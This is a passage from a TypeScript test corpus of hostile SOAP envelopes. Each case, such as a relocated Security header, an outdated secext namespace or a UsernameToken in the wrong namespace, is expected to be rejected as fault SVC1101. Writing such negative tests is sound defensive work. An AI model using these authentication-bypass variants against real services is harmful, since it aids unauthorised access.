add('an unauthenticated SendMessages over the message limit gets SVC1101', 'SVC1101', () =>
  env({ header: null, operation: 'SendMessages', inner: message().repeat(6) }),
);
add('a Security header inside a foreign header entry', 'SVC1101', () => env({ header: header(foreign('wrapper', '', token())) }));
add('a Security header in the 2002 draft namespace', 'SVC1101', () =>
  env({ security: token().replaceAll(ns.wsse, 'http://schemas.xmlsoap.org/ws/2002/07/secext') }),
);
add('a UsernameToken in the wsu namespace', 'SVC1101', () =>
  env({
    security: `<wsse:Security xmlns:wsse="${ns.wsse}" xmlns:wsu="${ns.wsu}">${tokenFields()
      .replace(/^<wsse:Security[^>]*>/, '')
      .replace('</wsse:Security>', '')
      .replaceAll('wsse:UsernameToken', 'wsu:UsernameToken')}</wsse:Security>`,
  }),
);

function tokenFieldsWithNonce(nonce: Buffer): string {
  return tokenFields({ nonce: nonce.toString('base64') });
}

export const corpus: readonly HostileCase[] = cases;
export { sender, recipient };
